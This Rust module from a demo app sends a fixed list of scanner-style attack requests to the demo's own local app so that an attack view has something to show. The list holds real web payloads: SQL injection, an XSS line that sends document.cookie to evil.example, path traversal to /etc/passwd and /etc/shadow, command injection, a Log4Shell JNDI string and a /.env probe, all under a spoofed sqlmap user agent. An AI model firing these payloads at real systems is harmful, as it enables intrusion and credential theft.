//! A handful of harmless attempts, so that *Attacks* has something to show: what scanners send all day, against the demo's own
//! app on this machine.

use super::browser::Browser;
use bytes::Bytes;
use http::Method;
use http::header::{CONTENT_TYPE, USER_AGENT};

/// What is tried: method, path and body. Percent signs stand for what a browser would encode.
const TRIES: [(Method, &str, &str); 9] = [
    (Method::GET, "/workers?q=1%27%20UNION%20SELECT%20login,password%20FROM%20accounts--%20-", ""),
    (Method::GET, "/workers?q=1%27%20OR%20%271%27=%271", ""),
    (Method::GET, "/roster?week=%3Cscript%3Efetch(%27//evil.example/%27%2Bdocument.cookie)%3C/script%3E", ""),
    (Method::GET, "/roster?week=../../../../etc/passwd", ""),
    (Method::GET, "/export/workers.csv?file=..%2f..%2f..%2f..%2fetc%2fshadow", ""),
    (Method::GET, "/roster?host=127.0.0.1;cat%20/etc/passwd", ""),
    (Method::GET, "/?x=$%7Bjndi:ldap://evil.example/a%7D", ""),
    (Method::GET, "/.env", ""),
    (Method::POST, "/sign-in", "login=admin%27%20OR%201=1--&password=x"),
];

/// Tries them, some more often than others. What is answered is of no matter here.
pub(crate) async fn run(mut browser: Browser) {
    for (number, (method, path, body)) in TRIES.iter().enumerate() {
        for _ in 0..=(TRIES.len() - number) / 3 {
            let kind = (CONTENT_TYPE.as_str(), "application/x-www-form-urlencoded");
            let headers = [(USER_AGENT.as_str(), "sqlmap/1.8 (https://sqlmap.org)"), kind];
            let headers = if body.is_empty() { &headers[..1] } else { &headers[..] };
            // A connection that is closed instead of an answer is one, too.
            let _ = browser.send(method.clone(), path, headers, Bytes::from_static(body.as_bytes())).await;
        }
    }
}
